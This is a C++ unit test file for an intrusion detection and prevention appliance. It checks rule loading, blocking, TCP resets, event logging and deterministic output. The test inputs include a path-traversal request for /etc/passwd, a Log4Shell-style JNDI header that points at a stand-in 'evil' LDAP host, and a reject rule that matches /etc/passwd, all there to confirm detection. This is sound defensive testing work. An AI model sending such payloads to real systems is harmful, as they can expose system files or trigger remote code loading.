// SPDX-License-Identifier: Apache-2.0
#include "appliances/ids/ids_appliance.h"

#include <gtest/gtest.h>

#include <nlohmann/json.hpp>
#include <sstream>

#include "inspect/stream/test_packets.h"

namespace sluice::ids {
namespace {

using inspect::testing::Bytes;
using inspect::testing::Ends;
using inspect::testing::tcp;

constexpr uint8_t kSyn = tunnels::kTcpSyn;
constexpr uint8_t kAck = tunnels::kTcpAck;

struct Injected : sdk::Injector {
  std::vector<Bytes> packets;
  void inject(std::span<const uint8_t> ip) override { packets.emplace_back(ip.begin(), ip.end()); }
};

class IdsApplianceTest : public ::testing::Test {
 protected:
  void load(const std::string& rules) {
    IdsOptions options;
    options.rules.rule_texts = {{"test", rules}};
    auto made = make_ids(options, sink_);
    ASSERT_TRUE(made) << made.error().text();
    appliance_ = std::move(*made);
  }
  void load_example() {
    IdsOptions options;
    options.rules.rule_files = {SLUICE_SOURCE_DIR "/docs/features/examples/ids.rules"};
    auto engine = load_rules(options);
    ASSERT_TRUE(engine) << engine.error().text();
    for (const auto& refused : (*engine)->refused()) ADD_FAILURE() << refused.text();
    EXPECT_GE((*engine)->size(), 5u);
    appliance_ = std::move(*make_ids(*engine, options, sink_));
  }

  bool send(Bytes ip) {
    sdk::Packet packet{ip, 1, 2, time_us_ += 1000};
    return appliance_->handle(packet, injected_) == sdk::Answer::kReturn;
  }
  void connect(const Ends& c) {
    send(tcp(c, kSyn, 100, 0));
    send(tcp(c.turned(), kSyn | kAck, 500, 101));
    send(tcp(c, kAck, 101, 501));
  }
  std::vector<nlohmann::json> events() {
    appliance_->finish(time_us_);
    std::vector<nlohmann::json> out;
    std::istringstream lines(sink_.text());
    for (std::string line; std::getline(lines, line);) out.push_back(nlohmann::json::parse(line));
    return out;
  }

  inspect::MemorySink sink_;
  Injected injected_;
  std::unique_ptr<sdk::Appliance> appliance_;
  int64_t time_us_ = 1'700'000'000'000'000;
};

TEST_F(IdsApplianceTest, ReturnsDropsAndResets) {
  load("reject tcp any any -> any 80 (msg:\"no\"; content:\"/etc/passwd\"; sid:5;)");
  const Ends c;
  connect(c);
  EXPECT_TRUE(send(tcp(c, kAck, 101, 501, "GET /etc/")));
  EXPECT_FALSE(send(tcp(c, kAck, 110, 501, "passwd HTTP/1.1\r\n")));
  EXPECT_EQ(injected_.packets.size(), 2u);
  EXPECT_FALSE(send(tcp(c, kAck, 110, 501, "passwd")));
  const auto all = events();
  ASSERT_EQ(all.size(), 6u);
  EXPECT_EQ(all[0].at("alert").at("action"), "blocked");
  EXPECT_EQ(all[1].at("drop").at("reason"), "rules");
  EXPECT_EQ(all[2].at("event_type"), "http");  // as far as it was known
  EXPECT_EQ(all[3].at("drop").at("reason"), "flow drop");
  EXPECT_EQ(all[4].at("event_type"), "flow");
  const auto& stats = all[5].at("stats");
  EXPECT_EQ(stats.at("ips").at("accepted"), 4);
  EXPECT_EQ(stats.at("ips").at("blocked"), 2);
  EXPECT_EQ(stats.at("ips").at("drop_reason").at("rules"), 1);
  EXPECT_EQ(stats.at("detect").at("alert"), 1);
}

TEST_F(IdsApplianceTest, TheExampleOfTheDocumentationDoesWhatItSays) {
  load_example();
  Ends c{"10.1.0.2", "10.1.0.80", 40000, 80};
  connect(c);
  EXPECT_FALSE(
      send(tcp(c, kAck, 101, 501, "GET /cgi-bin/../../etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n")));
  c.source_port++;
  connect(c);
  EXPECT_TRUE(send(
      tcp(c, kAck, 101, 501, "GET /index.html HTTP/1.1\r\nHost: a\r\nUser-Agent: curl/7\r\n\r\n")));
  c.source_port++;
  connect(c);
  EXPECT_FALSE(send(tcp(c, kAck, 101, 501, "GET / HTTP/1.1\r\nX: ${jndi:ldap://evil/a}\r\n\r\n")));
  EXPECT_EQ(injected_.packets.size(), 2u);
  std::vector<int> sids;
  for (const auto& event : events()) {
    if (event.at("event_type") == "alert") sids.push_back(event.at("alert").at("signature_id"));
  }
  EXPECT_EQ(sids, (std::vector<int>{1000001, 1000003, 1000002}));
}

TEST_F(IdsApplianceTest, AFlowEventSaysWhatItsFlowHasMet) {
  load("alert tcp any any -> any any (content:\"nothing\"; sid:1;)");
  Bytes ip = tcp({}, kAck, 101, 501, "in the middle");
  sdk::Packet packet{ip, 1, 2, time_us_};
  packet.waited_us = inspect::kWaitMaxUs + 1;
  EXPECT_EQ(appliance_->handle(packet, injected_), sdk::Answer::kReturn);
  const auto all = events();
  EXPECT_EQ(all[0].at("flow").at("exception_policy").dump(),
            R"([{"policy":"ignore","target":"stream_midstream"},)"
            R"({"policy":"ignore","target":"overload"}])");
  const auto& counted = all[1].at("stats");
  EXPECT_EQ(counted.at("ips").at("overload_exception_policy").at("ignore"), 1);
  EXPECT_EQ(counted.at("tcp").at("midstream_exception_policy").at("ignore"), 1);
}

TEST_F(IdsApplianceTest, TheSamePacketsGiveTheSameBytes) {
  const auto run = [this] {
    sink_.clear();
    time_us_ = 1'700'000'000'000'000;
    load("alert tcp any any -> any any (content:\"x\"; sid:1;)");
    for (uint16_t port = 1; port < 200; port++) {
      const Ends c{"10.0.0.1", "10.0.0.2", port, 80};
      connect(c);
      send(tcp(c, kAck, 101, 501, "x"));
      appliance_->tick(time_us_);
    }
    appliance_->finish(time_us_);
    return sink_.text();
  };
  const std::string first = run();
  EXPECT_EQ(first, run());
  EXPECT_GT(first.size(), 10000u);
}

// Every example of the documentation loads, with nothing refused.
TEST(IdsExamples, Load) {
  const std::string examples = SLUICE_SOURCE_DIR "/docs/features/examples/";
  IdsOptions thresholds;
  thresholds.rules.rule_files = {examples + "ids.rules"};
  thresholds.rules.threshold_file = examples + "threshold.config";
  IdsOptions firewall;
  firewall.rules.rule_files = {examples + "firewall.rules"};
  firewall.rules.order.strict = true;
  for (const IdsOptions& options : {thresholds, firewall}) {
    const auto engine = load_rules(options);
    ASSERT_TRUE(engine) << engine.error().text();
    for (const auto& refused : (*engine)->refused()) ADD_FAILURE() << refused.text();
    EXPECT_GE((*engine)->size(), 5u);
  }
  const auto engine = load_rules(thresholds);
  size_t changed = 0;
  for (uint32_t i = 0; i < (*engine)->size(); i++) {
    const inspect::Rule& rule = (*engine)->rule(i).rule;
    changed += rule.threshold || rule.rate_filter || !rule.suppressions.empty() ? 1 : 0;
  }
  EXPECT_EQ(changed, 3u);
}

}  // namespace
}  // namespace sluice::ids
